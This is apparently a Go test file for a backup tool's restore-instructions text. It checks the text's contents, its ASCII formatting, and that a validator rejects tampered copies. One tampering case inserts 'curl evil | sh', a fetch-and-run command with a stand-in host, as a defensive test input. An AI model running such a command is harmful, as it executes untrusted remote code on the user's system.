package manifest

import (
	"bytes"
	"strings"
	"testing"
)

const idOfInstructions = "0123456789abcdef0123456789abcdef"

// The text names the archive, and says whether it is encrypted. A text that differs in anything is
// another one.
func TestInstructions(t *testing.T) {
	t.Parallel()
	plain, sealed := Instructions(idOfInstructions, false), Instructions(idOfInstructions, true)
	for word, in := range map[string][2]bool{
		"- archive: " + idOfInstructions + "\n": {true, true},
		"gbak-s3 restore ARCHIVE COPY":          {true, true},
		"restore.py":                            {true, true},
		"FORMAT.md":                             {true, true},
		"- encrypted: no\n":                     {true, false},
		"- encrypted: yes":                      {false, true},
		"AGE-SECRET-KEY-":                       {false, true},
		"ARCHIVE_ID":                            {false, false},
		"\r":                                    {false, false},
		"\t":                                    {false, false},
		"://BUCKET/":                            {true, true},
	} {
		if got := [2]bool{bytes.Contains(plain, []byte(word)), bytes.Contains(sealed, []byte(word))}; got != in {
			t.Errorf("%q is in the texts: %v, want %v", word, got, in)
		}
	}
	for isSealed, text := range map[bool][]byte{false: plain, true: sealed} {
		if !AreInstructions(text, isSealed) || AreInstructions(text, !isSealed) {
			t.Errorf("sealed %t: the text is not known again, or as the other one", isSealed)
		}
		for name, other := range map[string]string{
			"nothing":      "",
			"more":         string(text) + "\n",
			"less":         string(text[:len(text)-1]),
			"another word": strings.Replace(string(text), "gbak-s3 list", "curl evil | sh; gbak-s3 list", 1),
			"another id":   strings.Replace(string(text), idOfInstructions, strings.ToUpper(idOfInstructions), 1),
			"two ids":      strings.Replace(string(text), idOfInstructions, idOfInstructions+"\n- archive: "+idOfInstructions, 1),
			"line ends":    strings.ReplaceAll(string(text), "\n", "\r\n"),
		} {
			if AreInstructions([]byte(other), isSealed) {
				t.Errorf("sealed %t: %s passes", isSealed, name)
			}
		}
	}
}

// Whoever reads it in a terminal or a browser of objects sees whole lines, and ASCII everywhere.
func TestInstructionsArePlainText(t *testing.T) {
	t.Parallel()
	for _, isSealed := range []bool{false, true} {
		for line := range strings.SplitSeq(string(Instructions(idOfInstructions, isSealed)), "\n") {
			if len(line) > 88 || strings.TrimRight(line, " ") != line || strings.ContainsFunc(line, func(r rune) bool { return r > '~' }) {
				t.Errorf("sealed %t: %q", isSealed, line)
			}
		}
	}
}
